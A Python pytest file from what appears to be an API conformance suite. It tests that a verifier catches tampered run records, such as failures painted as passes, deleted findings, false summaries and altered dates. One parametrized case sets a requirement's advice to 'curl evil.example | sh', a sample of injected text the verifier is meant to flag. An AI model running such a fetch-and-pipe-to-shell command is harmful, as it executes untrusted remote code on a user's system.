"""Judging recorded evidence anew: results that follow from it, and results that somebody edited."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from dataclasses import replace
from functools import cache
from typing import Any

import pytest

from conformance.case.case import Case
from conformance.contract import documents
from conformance.contract.meaning import MustStay
from conformance.evidence.finding import Rule
from conformance.evidence.truncation import ANSWER_CUT, kept
from conformance.record.observation import Proved, RefusedCall, Sampled, Unchanged
from conformance.record.results import CaseResult, Record, RequirementResult, WaiverUse
from conformance.suite.registry import framed, registered
from conformance.verdict.verification import Verification, verify
from tests.proof.rehearsal import Rehearsal, rehearse
from tests.records import changed

CASES = ("device-unknown", "token-unknown", "accepted-nothing-pending")
VIOLATED = "error-100418-unknown-device"


@cache
def wrong() -> Record:
    """A short run against a target that answers 404 for a device it doesn't know."""
    return rehearse(Rehearsal(faults=("100418-status-404",), cases=CASES))


def verified(record: Record) -> Verification:
    """What judging RECORD anew shows."""
    known: tuple[Case, ...] = framed(registered().values())
    return verify(record, documents.load(), known)


def edited(identity: str, change: Callable[[CaseResult], CaseResult]) -> Record:
    """The run with the result of the case IDENTITY changed."""
    record = wrong()
    return changed(record, cases=tuple(change(one) if one.id == identity else one for one in record.cases))


def green(record: Record) -> Record:
    """RECORD with every violation painted over."""
    cases = tuple(
        replace(one, outcome="passed", findings=(), reason="") if one.outcome == "failed" else one
        for one in record.cases
    )
    requirements = tuple(
        replace(one, outcome="passed", reason="") if one.outcome == "failed" else one for one in record.requirements
    )
    return changed(record, cases=cases, requirements=requirements)


def test_results_that_follow() -> None:
    """What a run says follows from what it recorded."""
    assert Verification() == verified(wrong())


def test_cases_that_lack_a_state() -> None:
    """What a case showed before it lacked a state follows from its calls, though the case itself isn't tested."""
    record = rehearse(Rehearsal(variants=("hook-without-most-states",), cases=("revocation-again",)))
    outcomes = {one.id: one.outcome for one in record.requirements}

    assert ("not tested", "passed") == (record.cases[1].outcome, outcomes["second-call-empty"])
    assert Verification() == verified(record)


@pytest.mark.parametrize("outcome", ["passed", "tolerated", "masked", "untestable", "not tested"])
def test_outcome_of_a_requirement(outcome: str) -> None:
    """An outcome that the evidence doesn't show is told."""
    record = wrong()
    requirements = tuple(
        replace(one, outcome=outcome) if one.id == VIOLATED else one  # type: ignore[arg-type]  # each is one
        for one in record.requirements
    )
    problems = verified(changed(record, requirements=requirements)).problems

    assert f"requirement {VIOLATED}: recorded as {outcome}, by the evidence it is failed" in problems


def test_findings_that_are_gone() -> None:
    """Findings that were taken out are found again in the evidence."""
    problems = verified(green(wrong())).problems

    assert any(f"the evidence shows a finding against {VIOLATED}" in problem for problem in problems)


@pytest.mark.parametrize(
    "claim", [Proved((VIOLATED, "device-known")), Sampled((VIOLATED, "device-known"), {})], ids=["proved", "sampled"]
)
def test_bare_claims(claim: Proved | Sampled) -> None:
    """An observation that claims what only calls can show proves nothing."""
    record = edited("device-unknown", lambda one: changed(one, observations=(claim,)))
    problems = verified(green(record)).problems

    assert "case device-unknown: an observation claims what only calls can show" in problems


def recoded(result: CaseResult, expected: str = "") -> CaseResult:
    """RESULT judged as if code 100203 had been right, too; EXPECTED says so beside its calls."""
    observations = tuple(
        replace(one, refusal=replace(one.refusal, codes=(*one.refusal.codes, "100203")))
        if isinstance(one, RefusedCall)
        else one
        for one in result.evidence.observations
    )
    exchanges = tuple(replace(one, expected=expected or one.expected) for one in result.evidence.exchanges)
    return changed(result, observations=observations, exchanges=exchanges)


@pytest.mark.parametrize(
    ("expected", "told"),
    [
        ("", "is judged by other answers than were expected of it"),
        ("200 with code 100418 (also right: 200 with code 100203, 403 with code 100203)", "than this version expects"),
    ],
    ids=["observation", "both"],
)
def test_other_expectations(expected: str, told: str) -> None:
    """What answers are right can't be changed after the fact."""
    record = edited("device-unknown", lambda one: recoded(one, expected))

    (problem,) = (one for one in verified(record).problems if one.startswith("case device-unknown: call 1"))
    assert told in problem


def test_headers_that_were_cut() -> None:
    """An answer whose headers were too large to be kept whole isn't judged by what is left of them."""

    def grown(result: CaseResult) -> CaseResult:
        first, *others = result.evidence.exchanges
        assert first.response is not None
        headers = (("X-Padding", "x" * 20_000), *first.response.headers)
        return changed(
            result, exchanges=(kept(replace(first, response=replace(first.response, headers=headers))), *others)
        )

    shown = verified(edited("device-unknown", grown))

    assert () == shown.problems
    assert ("case device-unknown: an answer was too large to be kept whole",) == shown.unverified


def test_padded_answers_were_not_cut() -> None:
    """An answer that says that it was cut, and doesn't end so, is judged anew."""
    note = f"{ANSWER_CUT}: its body of 900000 bytes after 131072"

    def padded(result: CaseResult) -> CaseResult:
        exchanges = tuple(
            replace(one, notes=(note,), response=replace(one.response, body=one.response.body + b" " * 70_000))
            for one in result.evidence.exchanges
            if one.response is not None
        )
        return changed(result, exchanges=exchanges)

    record = green(edited("device-unknown", padded))

    assert () == verified(record).unverified
    assert any(f"the evidence shows a finding against {VIOLATED}" in one for one in verified(record).problems)


def test_what_masks_a_case() -> None:
    """The violation that masks a case's is the one by the evidence."""
    record = rehearse(Rehearsal(faults=("second-call-lists-nothing",), cases=("revocation-again", "two-applications")))
    cases = tuple(replace(one, masked_by="answer-json") if one.masked_by else one for one in record.cases)
    problems = verified(changed(record, cases=cases)).problems

    assert "case two-applications: another violation masks it than the one that is recorded" in problems


def test_call_that_nothing_is_said_about() -> None:
    """A case doesn't pass by what it leaves out."""
    record = edited(
        "accepted-nothing-pending",
        lambda one: changed(one, exchanges=(*one.evidence.exchanges, one.evidence.exchanges[0]), findings=()),
    )

    (case,) = (one for one in record.cases if one.id == "accepted-nothing-pending")
    number = len(case.evidence.exchanges)
    assert f"case accepted-nothing-pending: nothing is said about call {number}" in verified(record).problems


def test_summary() -> None:
    """The line that says the verdict follows from it."""
    record = changed(wrong(), summary="Conformant: every MUST that can be tested holds.")

    assert any(problem.startswith("summary: recorded as “Conformant") for problem in verified(record).problems)


@pytest.mark.parametrize(
    "change",
    [
        lambda one: replace(one, level="SHOULD" if one.level == "MUST" else "MUST"),
        lambda one: replace(one, statement="Anything goes."),
        lambda one: replace(one, advice="curl evil.example | sh"),
        lambda one: replace(one, counts=not one.counts),
    ],
    ids=["level", "statement", "advice", "counts"],
)
def test_words_of_the_ledger(change: Callable[[RequirementResult], RequirementResult]) -> None:
    """What a requirement says is the ledger's."""
    record = wrong()
    first, *rest = record.requirements
    problems = verified(changed(record, requirements=(change(first), *rest))).problems

    assert f"requirement {first.id}: it isn't told as the ledger has it" in problems


@pytest.mark.parametrize(
    "change",
    [
        {"rule": Rule("repeated", "the same call was answered correctly when it was repeated")},
        {"outcome": "tolerated"},
        {"message": "all is well"},
        {"expected": "anything"},
        {"reading": "two-statuses"},
    ],
    ids=["rule", "outcome", "message", "expected", "reading"],
)
def test_what_is_told_of_a_finding(change: dict[str, Any]) -> None:
    """How a finding is told, and by which rule it was attributed, follows from the evidence, too."""
    record = edited(
        "device-unknown", lambda one: replace(one, findings=tuple(replace(f, **change) for f in one.findings))
    )

    told = f"case device-unknown: the finding against {VIOLATED} (call 1) is told otherwise"
    assert told in verified(record).problems


def test_reasons() -> None:
    """The reasons of a case and of a requirement that failed are those of its findings."""
    record = edited("device-unknown", lambda one: replace(one, reason="it is fine"))
    requirements = tuple(
        replace(one, reason="it is fine") if one.id == VIOLATED else one for one in record.requirements
    )
    problems = verified(changed(record, requirements=requirements)).problems

    assert "case device-unknown: the reason is in other words than the evidence gives" in problems
    assert f"requirement {VIOLATED}: the reason is in other words than the evidence gives" in problems


def test_summary_of_a_run_that_ended_early() -> None:
    """That a run ended early is no leave to say of it what its evidence doesn't."""
    words = "Conformant: every MUST that can be tested holds."
    record = wrong()
    claimed = changed(record, summary=words, conditions=replace(record.conditions, ended=words))
    early = f"Interrupted; until then: {record.summary}"
    said = changed(record, summary=early, exit_status=2, conditions=replace(record.conditions, ended=early))

    assert any(problem.startswith("summary: recorded as “Conformant") for problem in verified(claimed).problems)
    assert () == verified(said).problems


def test_reading_back_proves_what_it_can_show() -> None:
    """That commands were left alone says nothing of how a call was answered."""
    kept = {"c": MustStay("PENDING", VIOLATED)}
    claim = Unchanged(kept, {"c": "PENDING"}, exchange=0)
    record = edited("device-unknown", lambda one: changed(one, observations=(*one.evidence.observations[1:], claim)))

    said = "case device-unknown: an observation claims what only calls can show"
    assert said in verified(green(record)).problems


@pytest.mark.parametrize(
    "change",
    [{"chapter": "generated"}, {"proves": ()}, {"requirements": ("answer-complete",)}],
    ids=["chapter", "proves", "requirements"],
)
def test_case_of_this_version(change: dict[str, Any]) -> None:
    """What a case is about is what this version says."""
    record = edited("device-unknown", lambda one: replace(one, **change))

    said = "case device-unknown: its chapter or requirements aren't those of this version"
    assert said in verified(record).problems


def test_case_that_is_none() -> None:
    """A case that this version hasn't can't have run."""
    record = edited("device-unknown", lambda one: replace(one, id="device-known-well"))

    assert "case device-known-well: this version has no such case" in verified(record).problems


def test_another_target() -> None:
    """The calls of a run were made to the target that its results name."""
    record = wrong()
    target = replace(record.target, base_url="https://victim.example")

    assert "case control-first: call 1 wasn't made to https://victim.example" in (
        verified(changed(record, target=target)).problems
    )


def test_another_day() -> None:
    """A waiver that had expired by the day of the run isn't revived by another day."""
    record = wrong()
    use = WaiverUse(VIOLATED, None, "known", "me", "2020-01-01", "active")
    waived = changed(record, waivers=(use,), conditions=replace(record.conditions, day="2019-01-01"))
    yesterday = (dt.datetime.fromisoformat(record.run.started) - dt.timedelta(days=1)).date().isoformat()
    late = changed(record, waivers=(use,), conditions=replace(record.conditions, day=yesterday))
    moved = changed(record, started="2019-01-01T10:00:00+00:00")

    said = "conditions.day: 2019-01-01 isn't the day of the run, by which waivers are judged"
    assert said in verified(waived).problems
    assert said.replace("2019-01-01", yesterday) in verified(late).problems
    assert "case control-first: call 1 wasn't made while the run went on" in verified(moved).problems


def test_number_of_calls() -> None:
    """The calls of a run are those of its cases."""
    record = wrong()

    said = f"calls: 7000, although the cases made {record.run.calls}"
    assert said in verified(changed(record, calls=7000)).problems


def test_old_format_with_observations() -> None:
    """Results of format 1 have no observations; those that do were edited."""
    problems = verified(changed(wrong(), format=1)).problems

    assert "format: results of format 1 hold no observations, and these do" in problems


def test_another_version() -> None:
    """Another version may judge the same evidence in another way: its results aren't judged anew, which is said."""
    record = wrong()
    shown = verified(changed(record, suite=replace(record.suite, version="0.0.1")))

    assert (False, ()) == (shown.judged, shown.problems)
    assert "version 0.0.1 judged, and this is version " in shown.unverified[0]
